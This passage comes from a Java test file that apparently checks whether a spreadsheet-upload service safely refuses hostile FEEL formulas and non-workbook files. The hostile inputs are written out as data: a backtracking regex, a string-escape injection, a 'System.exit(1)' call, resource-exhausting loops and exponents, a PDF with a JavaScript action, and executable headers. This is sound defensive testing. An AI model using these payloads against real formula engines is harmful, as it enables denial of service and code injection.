                "FEEL lists that double",
                () -> feel("count(" + "concatenate(".repeat(6) + "[1, 2, 3]" + ", [1])".repeat(6) + ")"));
        refused("FEEL with 3,000 brackets", "", () -> feel("(".repeat(900) + "1" + ")".repeat(900)));
        read("FEEL that takes a power of a power", () -> feel("9 ** 9 ** 9 ** 9"));
        refused(
                "FEEL with a pattern that explodes",
                "",
                () -> feel("if matches(\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\", \"(a+)+$\") then 1 else 2"));
        refused("FEEL that ends its text", "", () -> feel("\"); " + canary.code()));
        refused("FEEL over names that nobody knows", "", () -> feel("System.exit(1)"));
    }

    private byte[] manyFormulas(int count) {
        Map<SheetKind, List<Map<String, String>>> changed = new LinkedHashMap<>(rows);
        List<Map<String, String>> remedies = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            Map<String, String> row = new LinkedHashMap<>(
                    rows.getOrDefault(SheetKind.REMEDIES, List.of()).get(0));
            row.keySet().removeAll(List.of("rate", "charge", "forEach"));
            row.put("clause", "5." + i);
            row.put("rateIs", "formula");
            row.put("formula", "count(for i in 1..(value * 29000) return i)");
            remedies.add(row);
        }
        changed.put(SheetKind.REMEDIES, remedies);
        return small(changed, count + 30);
    }

    private byte[] feel(String formula) {
        Map<SheetKind, List<Map<String, String>>> changed = new LinkedHashMap<>(rows);
        List<Map<String, String>> remedies = new ArrayList<>();
        for (Map<String, String> row : rows.getOrDefault(SheetKind.REMEDIES, List.of())) {
            Map<String, String> one = new LinkedHashMap<>(row);
            one.keySet().removeAll(List.of("rate", "charge", "forEach"));
            one.put("rateIs", "formula");
            one.put("formula", formula);
            remedies.add(one);
        }
        changed.put(SheetKind.REMEDIES, remedies);
        return small(changed);
    }

    private void files() {
        for (String kind :
                List.of("empty", "text", "zip", "document", "opendocument", "xls", "encrypted", "sheetless")) {
            refused("not a workbook: " + kind, "", () -> WrongFiles.make(kind, sound));
        }
        refused(
                "a binary workbook (.xlsb)",
                "",
                () -> part(
                        sound,
                        "[Content_Types].xml",
                        x -> x.replace(
                                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                "application/vnd.ms-excel.sheet.binary.macroEnabled.main")));
        refused(
                "a PDF",
                "not an Excel workbook",
                () -> "%PDF-1.7\n/OpenAction << /S /JavaScript >>".getBytes(StandardCharsets.UTF_8));
        refused("a program", "not an Excel workbook", () -> new byte[] {'M', 'Z', 0, 0, 0x7f, 'E', 'L', 'F'});
        for (int eighth = 1; eighth < 8; eighth++) {
            int length = eighth;
            refused(
                    "cut off at %s eighths".formatted(eighth),
                    "",
                    () -> Arrays.copyOf(sound, sound.length * length / 8));
        }
    }
}
